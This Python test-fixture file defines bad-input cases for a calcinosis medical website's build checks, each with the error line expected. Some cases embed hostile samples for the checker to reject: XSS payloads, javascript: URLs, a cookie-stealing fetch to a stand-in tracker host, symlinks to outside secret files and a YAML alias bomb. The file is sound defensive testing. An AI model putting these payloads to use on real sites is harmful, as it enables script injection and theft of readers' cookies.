"""The corpus of bad inputs: one small fixture site per mistake a contributor can make.

Each case starts from `good_site()` (a valid two-page site with one reference; its type
page has every section of templates/type.md, after a first section of its own), changes
one thing, and names the exact problem line the build must print: its beginning and the
code it ends with. tests/test_bad_inputs.py builds every case and runs `make check` on it;
the README's "What is checked" lists the same checks.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from bibfixtures import TRAINEAU
from pagefixtures import sections
from sitebuild import ROOT, config_without_nav

HOME = "index.md"
TYPE = "types/dystrophic-calcinosis.md"
PATIENT = "patients/what-is-calcinosis.md"
BIB = "refs.bib"

FRONT_ABOUT = "---\ntitle: Home\ndescription: A test site.\nkind: about\nreviewed: 2026-01-01\n---\n"
FRONT_TYPE = "---\ntitle: Dystrophic calcinosis\ndescription: Calcium in damaged tissue.\nkind: type\nreviewed: 2026-01-01\n---\n"
HOME_BODY = "\n# Home\n\nRead about [dystrophic calcinosis](types/dystrophic-calcinosis.md#causes).\n"
TYPE_BODY = ("\n# Dystrophic calcinosis\n\n## Causes { #causes }\n\n"
             "Calcium settles in damaged tissue with normal blood levels [@traineau2020treatment].\n")
# The required sections of a type page (templates/type.md), each cited, after TYPE_BODY:
# text added to the end of TYPE_BODY lands on line 13 on, before them.
TYPE_SECTIONS = sections("type")
ENTRY = TRAINEAU
# A second real, verified reference (from bibliography/types.bib), left uncited.
OTHER = """@article{reiter2011calcinosis,
  author  = {Reiter, N. and El-Shabrawi, L. and Leinweber, B. and Berghold, A. and Aberer, E.},
  title   = {Calcinosis cutis: part {I}. {Diagnostic} pathway},
  journal = {Journal of the American Academy of Dermatology},
  year    = {2011},
  volume  = {65},
  number  = {1},
  pages   = {1--12},
  doi     = {10.1016/j.jaad.2010.08.038},
  pmid    = {21679810},
}
"""
NAV = f"  - {HOME}\n  - {TYPE}\n"


SECRET = "TOP-SECRET-3f9a: a file outside the repository"
OUTSIDE = "{outside}"  # in `links`: a folder outside the fixture holding secret.txt and secret.md


@dataclass
class Case:
    """One bad input: what to change in the good site, and the line the build must print."""

    id: str
    group: str
    expected: str  # "path:line: what" (the message up to its " Fix: ")
    code: str = ""  # the message's code (hooks/core/codes.py), at the end of its line in brackets
    docs: dict[str, str | bytes] = field(default_factory=dict)  # replaced or added pages
    bib: str | None = None  # the whole refs.bib, when the case is about it
    nav: str = NAV
    files: dict[str, str] = field(default_factory=dict)  # other files, by path from the fixture root
    links: dict[str, str] = field(default_factory=dict)  # symbolic links: path -> target (OUTSIDE expands)
    config: str = ""  # YAML appended to the fixture's mkdocs.yml (after the nav)
    absent: tuple[str, ...] = ()  # texts that must not appear in any file of site/
    check_skip: str = ""  # why `make check` cannot print the line (empty: it must)
    unexpected: tuple[str, ...] = ()  # follow-on messages that must not be printed


def good_site() -> tuple[dict[str, str | bytes], dict[str, str], str]:
    return ({HOME: FRONT_ABOUT + HOME_BODY, TYPE: FRONT_TYPE + TYPE_BODY + TYPE_SECTIONS}, {BIB: ENTRY}, NAV)


def type_page(body: str = TYPE_BODY, front: str = FRONT_TYPE, rest: str = TYPE_SECTIONS) -> dict[str, str | bytes]:
    """The type page: front matter, body, then its required sections (`rest`)."""
    return {TYPE: front + body + rest}


def home(body: str) -> dict[str, str | bytes]:
    return {HOME: FRONT_ABOUT + HOME_BODY + body}


def front(**changes: str | None) -> str:
    """The type page's front matter with keys changed (None drops a key)."""
    keys = {"title": "Dystrophic calcinosis", "description": "Calcium in damaged tissue.",
            "kind": "type", "reviewed": "2026-01-01"}
    keys.update(changes)
    return "---\n" + "".join(f"{k}: {v}\n" for k, v in keys.items() if v is not None) + "---\n"


# The fixture's mkdocs.yml is the real one without its nav, then "nav:" and the case's nav,
# then the case's `config` lines.
_NAV_LINE = config_without_nav().count("\n") + 2


def config_line(offset: int, nav: str = NAV) -> int:
    """The line of mkdocs.yml where the `offset`-th line (1-based) of a case's `config` lands."""
    return _NAV_LINE + nav.count("\n") + offset


def nav_line(index: int) -> int:
    """The line of mkdocs.yml of the nav's `index`-th entry (1-based)."""
    return _NAV_LINE + index


def fm(yaml_text: str) -> str:
    """A type page whose front matter is the given YAML, line 2 onwards."""
    return f"---\n{yaml_text}---\n" + TYPE_BODY + TYPE_SECTIONS


ABBREVIATIONS = (ROOT / "includes" / "abbreviations.md").read_text(encoding="utf-8")
APPENDED_LINE = ABBREVIATIONS.count("\n") + 2  # where a case's appended line lands

SVG_HEAD = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10">'
PNG = b"\x89PNG\r\n\x1a\n"

# Lines in the type page: front matter 1-6; "# Dystrophic..." 8; "## Causes" 10; text 12;
# then TYPE_SECTIONS: "## Definition" 14, "## History and names" 18, ... one every 4 lines.

# A treatment page whose therapy's `studies` start on line 11 (a study: '- key' 12, design 13,
# patients 14, response 15). Its indication links it to the type page, so it is no orphan.
TREATMENT = "treatment/minocycline.md"
STUDY = ("    studies:\n      - key: traineau2020treatment\n        design: systematic-review\n"
         "        patients: 288\n        response: Not to be used\n")


def treatment_page(studies: str) -> dict[str, str | bytes]:
    return {TREATMENT: "---\ntitle: Minocycline\ndescription: Minocycline for calcinosis.\nkind: treatment\n"
                       "reviewed: 2026-01-01\ntherapies:\n  - name: Minocycline\n    indications: [dystrophic-calcinosis]\n"
                       f"    evidence: \"4\"\n    direction: for\n{studies}---\n\n# Minocycline\n\n"
                       "One series reported improvement [@traineau2020treatment].\n"}


HARD_PATIENT = """---
title: What is calcinosis
description: A plain guide.
kind: patient
reviewed: 2026-01-01
topics: [dystrophic-calcinosis]
---

# What is calcinosis

Notwithstanding considerable heterogeneity, histopathological characterisation demonstrates predominantly amorphous basophilic mineralisation accompanied by multinucleated foreign-body granulomatous inflammation, necessitating comprehensive differential consideration encompassing osteoma cutis and ossification.
"""

CASES: list[Case] = [
    # ── Bibliography ────────────────────────────────────────────────────────────────────
    Case("bib-syntax-error", "bibliography", "bibliography/refs.bib:1: entry could not be read: Unexpectedly reached end of file (noticed on line 12)", code="bibtex.syntax",
         bib=ENTRY.replace("  year    = {2020},\n", "  year    = {2020,\n")),
    Case("bib-duplicate-key", "bibliography", "bibliography/refs.bib:13: duplicate key 'traineau2020treatment': line 1 of this file has the same key", code="bibtex.duplicate-key", bib=ENTRY + "\n" + ENTRY),
    Case("bib-duplicate-doi", "bibliography", "bibliography/refs.bib:21: doi 10.1016/j.jaad.2019.07.006 of 'traineau2020calcinosis' is also in 'traineau2020treatment' (bibliography/refs.bib:1)", code="bibtex.duplicate-work",
         bib=ENTRY + "\n" + ENTRY.replace("traineau2020treatment", "traineau2020calcinosis")
         .replace("pmid    = {31302187},\n", "")),
    Case("bib-missing-field", "bibliography", "bibliography/refs.bib:1: @article 'traineau2020treatment' lacks the required field 'journal'", code="bibtex.missing-field", bib=ENTRY.replace("  journal = {Journal of the American Academy of Dermatology},\n", "")),
    Case("bib-bad-doi", "bibliography", "bibliography/refs.bib:9: doi 'https://doi.org/10.1016/j.jaad.2019.07.006' of 'traineau2020treatment' is not a bare DOI (10.NNNN/...)", code="bibtex.field-format", bib=ENTRY.replace("10.1016/j.jaad.2019.07.006", "https://doi.org/10.1016/j.jaad.2019.07.006")),
    Case("bib-bad-pmid", "bibliography", "bibliography/refs.bib:10: pmid 'PMID31302187' of 'traineau2020treatment' is not a PubMed id (digits only)", code="bibtex.field-format", bib=ENTRY.replace("31302187", "PMID31302187")),
    Case("bib-markup-in-field", "bibliography", "bibliography/refs.bib:3: field 'title' of 'traineau2020treatment' contains markup ('<')", code="bibtex.markup",
         bib=ENTRY.replace("a review of the literature", "a <i>review</i> of the literature")),
    Case("bib-broken-entry-folds-its-citations", "bibliography", "bibliography/refs.bib:1: entry could not be read: Unexpected block start: '@article'. Was still looking for field-value closing ',' or '}' (noticed on line 13); it holds the key 'traineau2020treatment', which cannot be cited until it is mended", code="bibtex.syntax",
         bib=ENTRY.replace("{Treatment of", "{Treatment {of") + "\n" + OTHER,
         docs=type_page(TYPE_BODY + "\nAlso cited [@reiter2011calcinosis].\n"),
         unexpected=("unknown citation key 'traineau2020treatment'",)),
    Case("bib-percent-sign", "bibliography", "bibliography/refs.bib:3: field 'title' of 'traineau2020treatment' contains '%', which the formatter reads as the start of a LaTeX comment: the rest of the field would be lost", code="bibtex.percent",
         bib=ENTRY.replace("a review of the literature", "a review of 30% of the literature")),
    Case("bib-unknown-latex-command", "bibliography", "bibliography/refs.bib:3: field 'title' of 'traineau2020treatment' uses the LaTeX command '\\mbox', which the formatter cannot print: its text would be lost", code="bibtex.latex-command",
         bib=ENTRY.replace("a review of the literature", "a review of \\mbox{the} literature")),
    # ── Citations ───────────────────────────────────────────────────────────────────────
    Case("cite-unknown-key", "citations", "docs/types/dystrophic-calcinosis.md:12: unknown citation key 'smith2019nothing'", code="citation.unknown-key",
         docs=type_page(TYPE_BODY.replace("[@traineau2020treatment]", "[@traineau2020treatment; @smith2019nothing]"))),
    Case("cite-typo-with-suggestion", "citations", "docs/types/dystrophic-calcinosis.md:12: unknown citation key 'traineau2020treatmnt' (did you mean 'traineau2020treatment'?)", code="citation.unknown-key",
         docs=type_page(TYPE_BODY.replace("[@traineau2020treatment]", "[@traineau2020treatmnt]"))),
    Case("cite-malformed", "citations", "docs/types/dystrophic-calcinosis.md:12: malformed citation '[@ traineau2020treatment]': a space after '@'", code="citation.malformed",
         docs=type_page(TYPE_BODY.replace("[@traineau2020treatment]", "[@ traineau2020treatment]"))),
    Case("cite-locator", "citations", "docs/types/dystrophic-calcinosis.md:12: citation '[@traineau2020treatment, p. 318]' has a locator (', p. 318'), which the numeric AMA style cannot show: it would be lost", code="citation.locator",
         docs=type_page(TYPE_BODY.replace("[@traineau2020treatment]", "[@traineau2020treatment, p. 318]"))),
    Case("cite-uncited-clinical-section", "citations", "docs/types/dystrophic-calcinosis.md:14: section 'Outlook' has no citation", code="citation.uncited-section",
         docs=type_page(TYPE_BODY + "\n## Outlook { #outlook }\n\nMost deposits stay the same size for years.\n")),
    Case("cite-unused-entry", "citations", "bibliography/refs.bib:13: reference 'reiter2011calcinosis' is not cited on any page", code="citation.unused-reference",
         bib=ENTRY + "\n" + OTHER),
    # ── Metadata ────────────────────────────────────────────────────────────────────────
    Case("meta-missing-key", "metadata", "docs/types/dystrophic-calcinosis.md:1: missing required front-matter key 'description'", code="frontmatter.missing-key", docs=type_page(front=front(description=None))),
    Case("meta-bad-date", "metadata", "docs/types/dystrophic-calcinosis.md:5: 'reviewed' must be a real date written YYYY-MM-DD (got '2026-02-30')", code="frontmatter.bad-date", docs=type_page(front=front(reviewed="2026-02-30"))),
    Case("meta-unknown-kind", "metadata", "docs/types/dystrophic-calcinosis.md:4: 'kind' must be one of about, overview, type, condition, diagnosis, differential, treatment, patient (got 'disease')", code="frontmatter.unknown-kind", docs=type_page(front=front(kind="disease"))),
    Case("meta-unknown-relation-id", "metadata", "docs/types/dystrophic-calcinosis.md:6: unknown page id 'calciphylaxsis' in 'see_also'", code="relations.unknown-id",
         docs=type_page(front=front(see_also="[calciphylaxsis]"))),
    Case("meta-yaml-error", "metadata", "docs/types/dystrophic-calcinosis.md:2: front matter is not valid YAML: mapping values are not allowed in this context", code="frontmatter.invalid-yaml", docs=type_page(front=front(title="Dystrophic: calcinosis: [x"))),
    # ── Links ───────────────────────────────────────────────────────────────────────────
    Case("link-broken-page", "links", "docs/index.md:12: link to 'types/missing.md' points to no page (docs/types/missing.md does not exist)", code="links.missing-page", docs=home("\nSee [the missing page](types/missing.md).\n")),
    Case("link-broken-anchor", "links", "docs/index.md:12: link to 'types/dystrophic-calcinosis.md#cause' names no section of docs/types/dystrophic-calcinosis.md", code="links.missing-anchor",
         docs=home("\nSee [the causes](types/dystrophic-calcinosis.md#cause).\n")),
    Case("link-orphan-page", "links", "docs/types/metastatic-calcinosis.md:1: page is linked from no other page (an orphan)", code="links.orphan",
         docs={"types/metastatic-calcinosis.md": front(title="Metastatic calcinosis")
               + "\n# Metastatic calcinosis\n\n## Causes { #causes }\n\nHigh calcium or phosphate "
               "in the blood [@traineau2020treatment].\n" + TYPE_SECTIONS},
         nav=NAV + "  - types/metastatic-calcinosis.md\n"),
    # ── Content policy ──────────────────────────────────────────────────────────────────
    Case("html-script", "content policy", "docs/index.md:12: raw HTML <script> is not allowed: pages must not run code of their own", code="policy.element", docs=home("\n<script>alert('hi')</script>\n")),
    Case("html-iframe", "content policy", "docs/index.md:12: raw HTML <iframe> is not allowed: pages must not embed other sites or plugins", code="policy.element", docs=home('\n<iframe src="https://example.org/video"></iframe>\n')),
    Case("html-object", "content policy", "docs/index.md:12: raw HTML <object> is not allowed: pages must not embed other sites or plugins", code="policy.element", docs=home('\n<object data="movie.swf"></object>\n')),
    Case("html-embed", "content policy", "docs/index.md:12: raw HTML <embed> is not allowed: pages must not embed other sites or plugins", code="policy.element", docs=home('\n<embed src="movie.swf">\n')),
    Case("html-style", "content policy", "docs/index.md:12: raw HTML <style> is not allowed: page-level CSS can hide or restyle any part of the site", code="policy.element", docs=home("\n<style>.md-header { display: none }</style>\n")),
    Case("html-form", "content policy", "docs/index.md:12: raw HTML <form> is not allowed: pages must not collect input from readers", code="policy.element",
         docs=home('\n<form action="https://example.org/collect"><input name="email"></form>\n')),
    Case("html-in-inline-code", "content policy", "docs/index.md:12: '<iframe' inside inline code: where a code span ends depends on the blocks around it, so the checks read it as HTML", code="policy.html-in-code", docs=home("\nInline `<iframe src=x>` is code.\n")),
    # A heading ends the paragraph Python-Markdown would have searched for the closing backtick:
    # the tag a line scanner takes for code is raw HTML in the page.
    Case("html-after-a-backtick-in-a-heading", "content policy", "docs/index.md:13: '<img' inside inline code: where a code span ends depends on the blocks around it, so the checks read it as HTML", code="policy.html-in-code", docs=home("\n## Title `\n<img src=x alt=x onerror=alert(1)> `\n"), absent=("alert(1)",)),
    Case("html-event-handler", "content policy", "docs/index.md:12: inline event handler 'onmouseover' in <span> is not allowed: it runs code", code="policy.event-handler", docs=home('\nA <span onmouseover="steal()">word</span>.\n')),
    Case("html-event-handler-attr-list", "content policy", "docs/index.md:12: inline event handler 'onclick' in an attribute list is not allowed: it runs code", code="policy.event-handler",
         docs=home('\nA [link](types/dystrophic-calcinosis.md){ onclick="steal()" }.\n')),
    Case("url-javascript", "content policy", "docs/index.md:12: link to a 'javascript:' URL is not allowed: it runs code", code="policy.script-url", docs=home("\nA [link](javascript:alert(1)).\n")),
    Case("url-data", "content policy", "docs/index.md:12: link to a 'data:' URL is not allowed: it can carry hidden content or code", code="policy.data-url", docs=home("\nA [link](data:text/html;base64,PHNjcmlwdD4=).\n")),
    Case("link-http", "content policy", "docs/index.md:12: external link 'http://example.org/article' uses http, not https", code="policy.http", docs=home("\nSee [a source](http://example.org/article).\n")),
    Case("image-without-alt", "content policy", "docs/index.md:12: image '![](assets/images/figure.png)' has no alt text", code="policy.image-alt",
         docs={**home("\n![](assets/images/figure.png)\n"), "assets/images/figure.png": b"\x89PNG\r\n\x1a\n"}),
    Case("image-remote", "content policy", "docs/index.md:12: image 'https://example.org/hand.png' is loaded from another site", code="policy.remote-image", docs=home("\n![A hand](https://example.org/hand.png)\n")),
    Case("front-matter-markup", "content policy", "docs/types/dystrophic-calcinosis.md:2: front-matter value 'title' contains HTML markup ('<script>alert(1)</sc...')", code="policy.front-matter-markup",
         docs=type_page(front=front(title="Dystrophic <script>alert(1)</script>"))),
    # ── Readability ─────────────────────────────────────────────────────────────────────
    Case("patient-page-too-hard", "readability", "docs/patients/what-is-calcinosis.md:1: reading grade 42.8 is above 8 for a patient page", code="readability.grade",
         docs={PATIENT: HARD_PATIENT, **home("\nA [plain guide](patients/what-is-calcinosis.md).\n")},
         nav=NAV + f"  - {PATIENT}\n"),
    # ── File-level faults ───────────────────────────────────────────────────────────────
    Case("file-not-utf8", "files", "docs/types/dystrophic-calcinosis.md:12: file is not valid UTF-8 (byte 0xe9 at offset 198)", code="page.not-utf8",
         docs={TYPE: (FRONT_TYPE + TYPE_BODY.replace("normal", "n\u00e9ormal")).encode("latin-1")}),
    Case("file-empty-page", "files", "docs/types/dystrophic-calcinosis.md:7: page has no content", code="page.empty", docs={TYPE: FRONT_TYPE}),
    Case("file-control-character", "files", "docs/types/dystrophic-calcinosis.md:12: the page contains the control character U+0000", code="page.control-character",
         docs=type_page(TYPE_BODY.replace("damaged tissue", "damaged\x00 tissue"))),
    Case("file-lone-carriage-return", "content policy", "docs/index.md:13: raw HTML <script> is not allowed: pages must not run code of their own", code="policy.element",
         docs=home("\nA line.\r<script>alert(1)</script>\n"), absent=("alert(1)",)),
    # ── What reaches site/: links, file types, drawings, stylesheets ─────────────────────
    Case("file-symlink-static", "published files", "docs/assets/passwd.txt:1: docs/assets/passwd.txt is a symbolic link", code="files.symlink",
         links={"docs/assets/passwd.txt": f"{OUTSIDE}/secret.txt"}, absent=(SECRET,)),
    Case("file-symlink-folder", "published files", "docs/leak:1: docs/leak is a symbolic link", code="files.symlink",
         links={"docs/leak": OUTSIDE}, absent=(SECRET,)),
    Case("file-symlink-page", "published files", "docs/types/linked.md:1: docs/types/linked.md is a symbolic link", code="files.symlink",
         links={"docs/types/linked.md": f"{OUTSIDE}/secret.md"}, absent=(SECRET,)),
    Case("file-broken-symlink-page", "published files", "docs/types/gone.md:1: docs/types/gone.md is a symbolic link", code="files.symlink",
         links={"docs/types/gone.md": f"{OUTSIDE}/no-such-file.md"}),
    Case("file-symlink-bibliography", "published files", "bibliography/linked.bib:1: bibliography/linked.bib is a symbolic link", code="files.symlink",
         links={"bibliography/linked.bib": f"{OUTSIDE}/secret.txt"}, absent=(SECRET,)),
    Case("file-symlink-snippet", "snippets", "docs/index.md:12: snippet 'secret.md' is a symbolic link", code="snippets.symlink",
         docs=home('\n--8<-- "secret.md"\n'), links={"includes/secret.md": f"{OUTSIDE}/secret.md"}, absent=(SECRET,)),
    Case("file-html-static", "published files", "docs/assets/guide.html:1: docs/assets/guide.html is not published: .html files may not reach the site", code="files.not-published",
         docs={"assets/guide.html": "<p>Guide</p><script>alert('guide')</script>"}, absent=("alert('guide')",)),
    Case("file-js-static", "published files", "docs/assets/tracker.js:1: docs/assets/tracker.js is not published: .js files may not reach the site", code="files.not-published",
         docs={"assets/tracker.js": "fetch('https://tracker.example/?'+document.cookie)"}, absent=("document.cookie",)),
    Case("file-no-extension", "published files", "docs/assets/notes:1: docs/assets/notes is not published: a file without an extension files may not reach the site", code="files.not-published",
         docs={"assets/notes": "private notes"}, absent=("private notes",)),
    Case("svg-script", "published files", "docs/assets/images/map.svg:1: the drawing contains a <script> element", code="files.svg-content",
         docs={"assets/images/map.svg": SVG_HEAD + "<script>alert('svg')</script></svg>"}, absent=("alert('svg')",)),
    Case("svg-event-handler", "published files", "docs/assets/images/map.svg:1: the drawing contains an attribute 'onload' on <svg>", code="files.svg-content",
         docs={"assets/images/map.svg": SVG_HEAD.replace("<svg ", '<svg onload="alert(2)" ') + "</svg>"}, absent=("alert(2)",)),
    Case("svg-remote-reference", "published files", "docs/assets/images/map.svg:1: the drawing contains a link 'https://tracker.example/a.svg#x' on <use> (only '#id' references within the drawing)", code="files.svg-content",
         docs={"assets/images/map.svg": SVG_HEAD + '<use href="https://tracker.example/a.svg#x"/></svg>'}, absent=("tracker.example",)),
    Case("svg-foreign-object", "published files", "docs/assets/images/map.svg:1: the drawing contains a <foreignobject> element", code="files.svg-content",
         docs={"assets/images/map.svg": SVG_HEAD + "<foreignObject><p>html</p></foreignObject></svg>"}),
    Case("svg-animation", "published files", "docs/assets/images/map.svg:1: the drawing contains a <animate> element", code="files.svg-content",
         docs={"assets/images/map.svg": SVG_HEAD + '<a><animate attributeName="href" values="https://a;javascript:alert(3)"/></a></svg>'},
         absent=("alert(3)",)),
    Case("svg-style-url", "published files", "docs/assets/images/map.svg:1: the drawing contains a url(...) to another file in 'style' on <rect>", code="files.svg-content",
         docs={"assets/images/map.svg": SVG_HEAD + '<rect style="fill:url(https://tracker.example/p)"/></svg>'}, absent=("tracker.example",)),
    Case("css-import", "published files", "docs/assets/stylesheets/extra.css:2: the stylesheet imports another stylesheet (@import)", code="files.css-import",
         docs={"assets/stylesheets/extra.css": "p { color: black }\n@import url(https://tracker.example/x.css);\n"}, absent=("tracker.example",)),
    Case("css-remote-url", "published files", "docs/assets/stylesheets/extra.css:1: the stylesheet loads 'https://tracker.example/p.png' from another host", code="files.css-remote",
         docs={"assets/stylesheets/extra.css": 'body { background: url("https://tracker.example/p.png") }\n'}, absent=("tracker.example",)),
    Case("file-name-with-hash", "published files", "docs/assets/images/fig#1.png:1: the name 'fig#1.png' has the character '#', which a link to it cannot carry", code="files.name",
         docs={"assets/images/fig#1.png": PNG}),
    # ── mkdocs.yml: nav, site name, copyright, extra ────────────────────────────────────
    Case("nav-javascript-link", "site config", f"mkdocs.yml:{nav_line(3)}: nav link 'javascript:alert(4)' is not allowed", code="config.nav-link",
         nav=NAV + '  - "Click me": "javascript:alert(4)"\n', absent=("alert(4)",)),
    Case("nav-title-markup", "site config", f"mkdocs.yml:{nav_line(3)}: nav title 'Home <img src=x onerror=alert(5)>' contains HTML markup (<img>)", code="config.markup",
         nav=NAV + '  - "Home <img src=x onerror=alert(5)>": https://example.org/\n', absent=("<img src=x onerror=alert(5)>",)),
    Case("nav-http-link", "site config", f"mkdocs.yml:{nav_line(3)}: nav link 'http://example.org/' is not allowed", code="config.nav-link",
         nav=NAV + "  - Source: http://example.org/\n"),
    Case("config-copyright-markup", "site config", f"mkdocs.yml:{config_line(1)}: 'copyright' contains HTML markup (<img>)", code="config.markup",
         config="copyright: '<img src=x onerror=alert(6)>'\n", absent=("<img src=x onerror=alert(6)>",)),
    Case("config-site-name-comment", "site config", f"mkdocs.yml:{config_line(1)}: 'site_name' contains HTML markup (an HTML comment)", code="config.markup",
         config="site_name: 'Calcinosis <!--'\n"),
    Case("config-extra-markup", "site config", f"mkdocs.yml:{config_line(2)}: 'extra.notice' contains HTML markup (<script>)", code="config.markup",
         config="extra:\n  notice: '<script>alert(7)</script>'\n", absent=("<script>alert(7)",)),
    Case("config-extra-analytics", "site config", f"mkdocs.yml:{config_line(2)}: 'extra.analytics' would send every reader's visits to another host", code="config.analytics",
         config="extra:\n  analytics:\n    provider: google\n    property: G-ABCDEF\n", absent=("G-ABCDEF",)),
    Case("config-remote-stylesheet", "site config", f"mkdocs.yml:{config_line(3)}: 'extra_css' loads 'https://tracker.example/x.css' from another host", code="config.remote-asset",
         config="extra_css:\n  - assets/stylesheets/site.css\n  - https://tracker.example/x.css\n", absent=("tracker.example",)),
    Case("settings-unknown", "site config", f"mkdocs.yml:{config_line(3)}: unknown setting 'extra.calcinosis.papr'", code="settings.unknown",
         config="extra:\n  calcinosis:\n    papr: letter\n"),
    Case("settings-paper", "site config", f"mkdocs.yml:{config_line(3)}: paper 'legal' is not a paper size the PDFs support", code="settings.paper",
         config="extra:\n  calcinosis:\n    paper: legal\n"),
    Case("settings-not-true-or-false", "site config", f"mkdocs.yml:{config_line(3)}: setting 'extra.calcinosis.cache' is not true or false", code="settings.wrong-type",
         config="extra:\n  calcinosis:\n    cache: 'no'\n"),
    Case("config-yaml-alias", "site config", f"mkdocs.yml:{config_line(2)}: mkdocs.yml repeats a value with an anchor and an alias (&name, *name)", code="config.yaml-alias",
         config="extra:\n  notice: &loop [*loop]\n"),
    Case("config-duplicate-key", "site config", f"mkdocs.yml:{config_line(4)}: mkdocs.yml sets 'extra.calcinosis.paper' twice (lines {config_line(3)} and {config_line(4)}), and YAML keeps only the last", code="config.duplicate-key",
         config="extra:\n  calcinosis:\n    paper: a4\n    paper: letter\n"),
    # ── Snippets ────────────────────────────────────────────────────────────────────────
    Case("snippet-missing", "snippets", "docs/index.md:12: snippet 'abbreviatons.md' does not exist in includes/, templates/ (did you mean 'abbreviations.md'?)", code="snippets.missing",
         docs=home('\n--8<-- "abbreviatons.md"\n')),
    Case("snippet-missing-in-block", "snippets", "docs/index.md:13: snippet 'missing.md' does not exist in includes/, templates/", code="snippets.missing",
         docs=home("\n--8<--\nmissing.md\n--8<--\n")),
    Case("snippet-outside-folders", "snippets", "docs/index.md:12: snippet '../mkdocs.yml' does not exist in includes/, templates/", code="snippets.missing",
         docs=home('\n--8<-- "../mkdocs.yml"\n'), absent=("site_name: Calcinosis",)),
    Case("snippet-web-address", "snippets", "docs/index.md:12: snippet 'https://example.org/x.md' is a web address", code="snippets.web-address",
         docs=home('\n--8<-- "https://example.org/x.md"\n')),
    Case("snippet-nested-missing", "snippets", "includes/note.md:1: snippet 'gone.md' does not exist in includes/, templates/", code="snippets.missing",
         docs=home('\n--8<-- "note.md"\n'), files={"includes/note.md": '--8<-- "gone.md"\n'}),
    Case("snippet-html-file", "snippets", "includes/box.html:2: raw HTML <script> is not allowed: pages must not run code of their own", code="policy.element",
         docs=home('\n--8<-- "box.html"\n'), files={"includes/box.html": "<div>Box</div>\n<script>alert(8)</script>\n"},
         absent=("alert(8)",)),
    # ── Aliases (search) and body sites (figures) ──────────────────────────────────────
    Case("meta-aliases-not-a-list", "metadata", "docs/types/dystrophic-calcinosis.md:6: 'aliases' must be a list of names (got 'scleroderma')", code="aliases.not-a-list",
         docs=type_page(front=front(aliases="scleroderma"))),
    Case("meta-alias-markup", "content policy", "docs/types/dystrophic-calcinosis.md:6: front-matter value 'aliases.0' contains HTML markup", code="policy.front-matter-markup",
         docs=type_page(front=front(aliases='["<img src=x onerror=alert(9)>"]')),
         absent=("onerror=alert(9)",), unexpected=("holds characters a name does not",)),
    Case("meta-alias-punctuation", "metadata", "docs/types/dystrophic-calcinosis.md:6: alias 'CREST {syndrome}' holds characters a name does not", code="aliases.characters",
         docs=type_page(front=front(aliases='["CREST {syndrome}"]')), absent=("CREST {syndrome}",)),
    Case("meta-alias-another-pages-title", "metadata", "docs/types/dystrophic-calcinosis.md:6: alias 'home' is the title of docs/index.md", code="aliases.other-title",
         docs=type_page(front=front(aliases="[home]"))),
    Case("meta-alias-on-two-pages", "metadata", "docs/types/dystrophic-calcinosis.md:6: alias 'Calcium lumps' is also an alias of docs/index.md:5", code="aliases.other-page",
         docs={HOME: FRONT_ABOUT.replace("kind: about\n", "kind: about\naliases: [calcium lumps]\n") + HOME_BODY,
               **type_page(front=front(aliases="[Calcium lumps]"))}),
    Case("meta-sites-unknown-region", "metadata", "docs/types/dystrophic-calcinosis.md:7: unknown region 'hand' in 'sites'", code="sites.unknown-region",
         docs=type_page(front=front(sites="\n  - {region: hand, key: traineau2020treatment}"))),
    # ── Structured studies, and what a page keeps from its template ─────────────────────
    Case("meta-study-old-form", "metadata", "docs/treatment/minocycline.md:11: study 1 of therapy 'Minocycline' must be a mapping of key, design, patients and response (got 'traineau2020treatment')", code="therapies.study-not-a-mapping",
         docs=treatment_page("    studies: [traineau2020treatment]\n"), nav=NAV + f"  - {TREATMENT}\n"),
    Case("meta-study-unknown-design", "metadata", "docs/treatment/minocycline.md:13: 'design' of study 'traineau2020treatment' of therapy 'Minocycline' must be one of systematic-review, randomised-trial, cohort, case-control, case-series, case-report, narrative-review (got 'rct')", code="therapies.study-design",
         docs=treatment_page(STUDY.replace("systematic-review", "rct")), nav=NAV + f"  - {TREATMENT}\n"),
    Case("meta-study-patients-not-a-number", "metadata", "docs/treatment/minocycline.md:14: 'patients' of study 'traineau2020treatment' of therapy 'Minocycline' must be a whole number above 0 (got '288 patients')", code="therapies.study-patients",
         docs=treatment_page(STUDY.replace("patients: 288", "patients: 288 patients")), nav=NAV + f"  - {TREATMENT}\n"),
    Case("meta-study-missing-response", "metadata", "docs/treatment/minocycline.md:12: study 'traineau2020treatment' of therapy 'Minocycline' is missing 'response'", code="therapies.study-missing-key",
         docs=treatment_page(STUDY.replace("        response: Not to be used\n", "")), nav=NAV + f"  - {TREATMENT}\n"),
    Case("meta-placeholder-description", "metadata", "docs/types/dystrophic-calcinosis.md:3: 'description' is still the placeholder of make new-page", code="shape.placeholder-description",
         docs=type_page(front=front(description="Replace this with one sentence that sums up the page, at most 160 characters."))),
    Case("meta-example-relation", "metadata", "docs/types/dystrophic-calcinosis.md:6: 'see_also' is still the example from templates/type.md", code="shape.template-example",
         docs=type_page(front=front(see_also="[home]   # example: name pages worth reading, or delete the line"))),
    Case("meta-template-comment", "metadata", "docs/types/dystrophic-calcinosis.md:14: placeholder comment from the template left in the page ('Typical sites, how the deposits look and...')", code="shape.template-comment",
         docs=type_page(TYPE_BODY + "\n<!-- Typical sites, how the deposits look and feel, their time course and\n     complications. -->\n")),
    # ── Front matter that could hang or crash the build ─────────────────────────────────
    Case("meta-yaml-alias-bomb", "metadata", "docs/types/dystrophic-calcinosis.md:6: front matter uses a YAML anchor or alias ('a')", code="frontmatter.yaml-alias",
         docs=type_page(front=fm("title: T\ndescription: D.\nkind: type\nreviewed: 2026-01-01\n"
                                  "a: &a [x, x, x, x, x, x, x, x, x, x]\n"
                                  + "".join(f"{c}: &{c} [{', '.join([f'*{p}'] * 10)}]\n" for p, c in zip("abcdefgh", "bcdefghi", strict=True))))),
    Case("meta-yaml-recursive", "metadata", "docs/types/dystrophic-calcinosis.md:3: front matter uses a YAML anchor or alias ('a')", code="frontmatter.yaml-alias",
         docs=type_page(front=fm("title: T\nloop: &a [*a]\n"))),
    Case("meta-yaml-complex-key", "metadata", "docs/types/dystrophic-calcinosis.md:3: front matter has a key that is not plain text", code="frontmatter.complex-key",
         docs=type_page(front=fm("title: T\n? [a, b]\n: c\n"))),
    Case("meta-yaml-deep", "metadata", "docs/types/dystrophic-calcinosis.md:3: front matter is nested more than 8 levels deep", code="frontmatter.too-deep",
         docs=type_page(front=fm("title: T\nx: " + "[" * 300 + "]" * 300 + "\n"))),
